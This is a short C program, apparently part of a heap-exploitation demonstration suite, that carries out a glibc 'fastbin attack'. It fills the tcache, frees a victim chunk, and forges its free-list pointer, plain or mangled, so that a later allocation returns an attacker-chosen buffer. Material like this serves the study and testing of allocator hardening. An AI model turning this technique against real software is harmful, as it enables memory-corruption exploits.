/* The same in the list that glibc keeps behind its first seven ("fastbin attack"): the first word of a free object is made to point to memory of the
 * attacker's choice; an allocation soon gets it. fastbin_forgery [plain|mangled] SIZE: how the pointer is hidden. */
#include "attack.h"

static _Alignas(64) uint64_t target[64];

int main(int argc, char **argv)
{
	begin();
	bool plain = !strcmp(word(argc, argv, 1, "mangled"), "plain");
	size_t n = argument(argc, argv, 2, 0x38);
	forge_chunk(target, 0x40);
	hold(target, sizeof target);
	void *fill[7];
	for (int i = 0; i < 7; i++)
		fill[i] = make(n);
	uintptr_t *victim = make(n), *last = make(n);
	hide(make(n));
	for (int i = 0; i < 7; i++)
		free(fill[i]);
	free(hide(last));
	free(hide(victim));
	return forge_link(victim, target, plain, n);
}
